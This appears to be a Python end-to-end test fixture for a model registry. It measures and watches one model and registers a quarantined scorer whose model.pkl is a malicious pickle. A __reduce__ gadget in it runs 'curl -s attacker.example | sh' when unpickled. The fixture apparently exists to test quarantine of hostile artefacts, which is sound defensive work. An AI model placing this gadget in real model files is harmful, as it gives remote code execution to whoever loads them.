"""What is measured and watched of a model in the pictures, and a model that is in quarantine."""

import os
import pickle
import tempfile
from pathlib import Path
from typing import Any, Final

from tests.e2e.browser.evidence import evaluate, watch
from tools.pictures.people import People

MEASURED: Final = "credit-limit"
QUARANTINED: Final = "imported-scorer"


class _Shell:
    """Pickled, it is a call of a shell. Nothing here unpickles it."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, ("curl -s attacker.example | sh",)


def register(people: People) -> None:
    """Evaluate and watch one of the neighbours, and register a model from elsewhere that would run a shell."""
    evaluate(people.admin, MEASURED)
    watch(people.admin, MEASURED)
    people.admin.models.create(QUARANTINED, description="A scorer from a public hub.", owner="lending")
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, "model.pkl").write_bytes(pickle.dumps(_Shell()))
        Path(folder, "config.json").write_text('{"layers": 3}')
        people.admin.register(QUARANTINED, folder, provenance={"runtime": {"requirements": ["numpy>=2"]}})
